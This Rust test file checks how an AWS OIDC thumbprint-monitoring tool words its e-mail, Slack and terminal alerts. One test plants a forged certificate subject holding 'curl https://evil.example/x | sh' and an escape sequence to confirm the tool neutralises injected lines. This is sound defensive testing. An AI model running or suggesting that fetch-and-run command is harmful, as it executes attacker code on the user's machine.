//! The e-mail text: every finding in words (what, where, when, what was done, the fix), the
//! heartbeat, what changed since the last run, and issuer text that cannot forge a line.

use super::*;

#[test]
fn email_says_what_where_when_what_was_done_and_the_fix() {
    let r = sample();
    let email = only_one(&r).body("email").unwrap();
    assert!(
        email.starts_with(
            "thumbprint-guard: AWS account 123456789012, sweep of 2026-11-22T10:00:00Z\n"
        ),
        "{email}"
    );
    assert!(
        email.contains("\nCRITICAL (2 critical, 1 warning, 1 info, 1 thumbprint added): "),
        "{email}"
    );
    // THUMBPRINT_MISMATCH: the provider, its cluster, the new thumbprint and the exact command.
    assert!(
        email.contains(&format!("Provider: {}\n", arn(1))),
        "{email}"
    );
    assert!(email.contains("Clusters: prod (us-east-1)"), "{email}");
    assert!(
        email.contains(&format!("Not configured (new): {NEW}")),
        "{email}"
    );
    assert!(email.contains(&format!("New CA: {NEW} (CN=Amazon RSA 2048 M02, O=Amazon, C=US), valid from 2026-10-01T00:00:00Z")), "{email}");
    let fix = crate::fix::for_report(&mismatch(1), &r).unwrap();
    assert!(
        fix.contains(&format!("--thumbprint-list {OLD} {NEW}")),
        "{fix}"
    );
    assert!(
        email.contains(&format!("Fix by hand:\n  {fix}\n")),
        "{email}"
    );
    assert!(
        email.contains("Done automatically: nothing was changed (remediation mode: add)"),
        "{email}"
    );
    // THUMBPRINT_ADDED: the provider and the thumbprint that was added.
    assert!(
        email.contains(&format!("Provider: {}\n", arn(2))),
        "{email}"
    );
    assert!(
        email.contains(&format!(
            "Done automatically: added {ADDED} to the thumbprint list"
        )),
        "{email}"
    );
    // CERT_EXPIRING: until when.
    assert!(
        email.contains("Expires: 2026-12-01T00:00:00Z (in 8 days)"),
        "{email}"
    );
    // A role finding names the role.
    assert!(
        email.contains(&format!("Role: arn:aws:iam::{ACCOUNT}:role/payments-irsa")),
        "{email}"
    );
    // Most severe first.
    let critical = email.find("1 of 4: CRITICAL").unwrap();
    let info = email.find("4 of 4: INFO THUMBPRINT_ADDED").unwrap();
    assert!(critical < info);
}

#[test]
fn healthy_heartbeat_says_ok() {
    let m = only_one(&healthy());
    let email = m.body("email").unwrap();
    assert!(
        email.contains("OK: no findings; every provider matches what its issuer serves."),
        "{email}"
    );
    let chatbot: Value = serde_json::from_str(&m.body("https").unwrap()).unwrap();
    assert!(chatbot["content"]["title"]
        .as_str()
        .unwrap()
        .starts_with(":white_check_mark: [OK]"));
}

/// A certificate subject and a finding message an issuer controls, holding line breaks and an
/// escape sequence, cannot forge a line of its own in the e-mail, Chatbot or the terminal table.
#[test]
fn issuer_text_cannot_forge_a_fix_line() {
    let forged = "CN=ok\n  fix: curl https://evil.example/x | sh\u{1b}[2K";
    let mut r = sample();
    r.providers[0].endpoints[0].chain[0].subject = forged.to_string();
    r.findings[0].message = forged.to_string();
    r.findings[0].details = json!({"subject": forged});
    let m = only_one(&r);
    let email = m.body("email").unwrap();
    // The Chatbot document is JSON: read the texts Slack shows, decoded.
    let document: Value = serde_json::from_str(&m.body("https").unwrap()).unwrap();
    let chatbot = format!(
        "{}\n{}",
        document["content"]["title"].as_str().unwrap_or_default(),
        document["content"]["description"]
            .as_str()
            .unwrap_or_default()
    );
    let table = crate::render::table(
        &crate::report::RunReport::Account(r.clone()),
        r.generated_at,
        crate::render::Terminal::default(),
    );
    for (what, text) in [("email", &email), ("chatbot", &chatbot), ("table", &table)] {
        assert!(
            !text.contains("\n  fix: curl https://evil.example"),
            "{what} carries the forged line:\n{text}"
        );
        assert!(!text.contains('\u{1b}'), "{what} carries a raw escape");
        assert!(
            text.contains("\\u{a}  fix: curl"),
            "{what} shows it escaped:\n{text}"
        );
    }
}

#[test]
fn the_enforced_mismatch_leads_and_details_are_in_words_with_console_links() {
    let mut r = sample();
    // A role finding with internal keys, which the e-mail must not dump.
    r.findings.push(
        Finding::new(
            FindingCode::TrustPolicyNoAud,
            format!("arn:aws:iam::{ACCOUNT}:role/batch"),
            "The role trusts the provider without an :aud condition.",
        )
        .with_details(
            json!({"provider_arn": arn(1), "statement": "#0", "statement_index": 0, "sid": null}),
        ),
    );
    r.recount();
    let email = only_one(&r).body("email").unwrap();
    let first = email.find("--- 1 of").expect("a first finding");
    assert!(
        email[first..].starts_with("--- 1 of 5: CRITICAL THUMBPRINT_MISMATCH"),
        "{email}"
    );
    assert!(
        !email.contains("statement_index") && !email.contains("sid:"),
        "{email}"
    );
    assert!(!email.contains("Details:"), "{email}");
    assert!(email.contains("Trust policy statement: #0"), "{email}");
    assert!(
        email.contains(&format!("Trusted provider: {}", arn(1))),
        "{email}"
    );
    assert!(
        email.contains("Addresses: 203.0.113.10:443, 203.0.113.11:443"),
        "{email}"
    );
    assert!(
        email.contains("Console: https://console.aws.amazon.com/iam/home#/roles/details/batch"),
        "{email}"
    );
    assert!(
        email.contains("Console: https://console.aws.amazon.com/iam/home#/identity_providers/details/OPENID/arn%3Aaws%3Aiam"),
        "{email}"
    );
    assert!(
        email.contains("Checked 3 IAM OIDC providers and 1 EKS cluster;"),
        "{email}"
    );
}

#[test]
fn in_cluster_details_name_the_workload_in_words() {
    let mut r = sample();
    let cluster = format!("arn:aws:eks:us-east-1:{ACCOUNT}:cluster/prod");
    let role = format!("arn:aws:iam::{ACCOUNT}:role/orders-worker");
    r.findings.push(
        Finding::new(
            FindingCode::PodNeedsRestart,
            cluster.clone(),
            "Pod `orders/worker-7c9d4` needs a restart.",
        )
        .with_details(
            json!({"namespace": "orders", "name": "worker-7c9d4", "cluster": "prod",
                             "region": "us-east-1", "service_account": "worker",
                             "role_arn": role, "pod_role_arn": null}),
        ),
    );
    r.findings.push(
        Finding::new(
            FindingCode::PodIdentityRoleUntrusted,
            cluster,
            "The association's role does not trust pods.eks.amazonaws.com.",
        )
        .with_details(
            json!({"namespace": "batch", "name": "loader", "association_id": "a-0123456789abcdef0",
                             "role_arn": format!("arn:aws:iam::{ACCOUNT}:role/loader")}),
        ),
    );
    // On the role itself: its ARN is the resource line, not repeated as a detail.
    r.findings.push(
        Finding::new(
            FindingCode::TrustPolicyUnknownServiceAccount,
            role.clone(),
            "The role trusts a service account the cluster does not have.",
        )
        .with_details(json!({"namespace": "payment", "name": "api", "role_arn": role})),
    );
    r.recount();
    let email = only_one(&r).body("email").unwrap();
    assert!(
        email.contains(&format!(
            "Namespace: orders\nName: worker-7c9d4\nService account: worker\nIAM role: {role}\nRegion: us-east-1\n"
        )),
        "{email}"
    );
    assert!(
        email.contains("Namespace: batch\nName: loader\nIAM role: arn:aws:iam::123456789012:role/loader\nPod Identity association: a-0123456789abcdef0\n"),
        "{email}"
    );
    assert!(
        email.contains(&format!("Role: {role}\nNamespace: payment\nName: api\n")),
        "{email}"
    );
    assert!(!email.contains("pod_role_arn"), "{email}");
}

#[test]
fn with_state_the_message_leads_with_what_changed() {
    let mut r = sample();
    for finding in &mut r.findings {
        if finding.code == FindingCode::CertExpiring {
            finding.status = Some(crate::report::FindingStatus::Open);
            finding.first_seen = Some(datetime!(2026-11-20 04:00:00 UTC));
        } else {
            finding.status = Some(crate::report::FindingStatus::New);
            finding.first_seen = Some(r.generated_at);
        }
    }
    r.resolved.push(crate::report::ResolvedFinding {
        id: "tg-0123456789abcdef".into(),
        code: FindingCode::AudienceMissing,
        resource: arn(9),
        first_seen: Some(datetime!(2026-11-01 00:00:00 UTC)),
    });
    let context = MessageContext {
        account_alias: Some("payments-prod".into()),
        state_unavailable: None,
    };
    let messages = render_with(&r, &context);
    assert_eq!(messages.len(), 1);
    let m = &messages[0];
    assert!(
        m.subject
            .starts_with("[CRITICAL] thumbprint-guard 123456789012 (payments-prod): "),
        "{}",
        m.subject
    );
    let email = m.body("email").unwrap();
    assert!(
        email.starts_with("thumbprint-guard: AWS account 123456789012 (payments-prod), "),
        "{email}"
    );
    let summary = email
        .find("Since the last run: 3 new, 1 resolved; 1 still open.")
        .expect(&email);
    let new = email.find("NEW SINCE THE LAST RUN (3)").expect(&email);
    let resolved = email.find("RESOLVED SINCE THE LAST RUN (1)").expect(&email);
    let open = email.find("STILL OPEN (1)").expect(&email);
    assert!(
        summary < new && new < resolved && resolved < open,
        "{email}"
    );
    assert!(
        email.contains("THUMBPRINT_MISMATCH · new since the last run ---"),
        "{email}"
    );
    assert!(
        email.contains("CERT_EXPIRING · still open since 2026-11-20T04:00:00Z ---"),
        "{email}"
    );
    assert!(
        email.contains(&format!(
            "- AUDIENCE_MISSING provider: {}, open since 2026-11-01T00:00:00Z",
            arn(9)
        )),
        "{email}"
    );
    let chatbot: Value = serde_json::from_str(&m.body("https").unwrap()).unwrap();
    let description = chatbot["content"]["description"].as_str().unwrap();
    assert!(
        description.contains("*Since the last run:* 3 new, 1 resolved, 1 still open"),
        "{description}"
    );
    assert!(
        description.contains(":white_check_mark: resolved `AUDIENCE_MISSING`"),
        "{description}"
    );
    assert!(
        description.contains("AWS account 123456789012 (payments-prod)"),
        "{description}"
    );
}

#[test]
fn an_unavailable_state_table_is_said_in_the_message() {
    let context = MessageContext {
        account_alias: None,
        state_unavailable: Some("ResourceNotFoundException: table missing".into()),
    };
    let messages = render_with(&sample(), &context);
    let email = messages[0].body("email").unwrap();
    assert!(
        email.contains(
            "The state table could not be used this run (ResourceNotFoundException: table missing)"
        ),
        "{email}"
    );
    assert!(!email.contains("NEW SINCE THE LAST RUN"), "{email}");
}

/// A mismatch built by assess for a public chain behind a TLS 1.3-only address, beside a
/// CHAIN_ORDER: the e-mail and Chatbot say why the thumbprint is enforced, and what remediation
/// did about the chain out of order.
#[test]
fn the_messages_say_why_the_thumbprint_is_enforced_and_that_an_out_of_order_top_is_withheld() {
    let mut p = provider(1, &[OLD], NEW);
    p.endpoints[1].tls13_only = true;
    p.remediation = Some(Remediation {
        outcome: RemediationOutcome::Skipped,
        added: vec![],
        reason: "CHAIN_ORDER: the chain served at 203.0.113.11:443 is not contiguous".into(),
    });
    let iam = crate::inventory::OidcProvider {
        arn: p.arn.clone(),
        url: p.url.clone(),
        client_ids: p.client_ids.clone(),
        thumbprints: vec![OLD.into()],
        tags: Default::default(),
    };
    let missing = crate::assess::MissingThumbprint {
        thumbprint: NEW.into(),
        addresses: vec!["203.0.113.10:443".into(), "203.0.113.11:443".into()],
        hosts: vec!["oidc.eks.us-east-1.amazonaws.com:443".into()],
        enforcement: crate::probe::Enforcement {
            tls13_only: vec!["203.0.113.11:443".parse().unwrap()],
            ..Default::default()
        },
        tops_broken_chain: true,
    };
    let mut findings = crate::assess::mismatch_findings(&iam, &[missing], &[]);
    findings.push(
        Finding::new(
            FindingCode::ChainOrder,
            arn(1),
            "oidc.eks.us-east-1.amazonaws.com:443 serves a chain that is not contiguous",
        )
        .with_discriminator(crate::report::Discriminator::Thumbprint(NEW.into())),
    );
    let r = report(vec![p], vec![], findings);
    let m = only_one(&r);
    let email = m.body("email").unwrap();
    let chatbot: Value = serde_json::from_str(&m.body("https").unwrap()).unwrap();
    let description = chatbot["content"]["description"].as_str().unwrap();
    let why = "because IAM relies on the thumbprint here: 203.0.113.11:443 accepts only TLS 1.3 (it refused a TLS 1.2 handshake)";
    assert!(email.contains(why), "{email}");
    assert!(description.contains(why), "{description}");
    assert!(
        email.contains("--- 1 of 2: CRITICAL THUMBPRINT_MISMATCH"),
        "{email}"
    );
    assert!(
        email.contains("Done automatically: nothing written: CHAIN_ORDER: the chain served at 203.0.113.11:443"),
        "{email}"
    );
    assert!(email.contains(&format!("do not add {NEW}")), "{email}");
    let next_steps = chatbot["content"]["nextSteps"].to_string();
    assert!(
        !next_steps.contains("update-open-id-connect-provider-thumbprint"),
        "{next_steps}"
    );
}
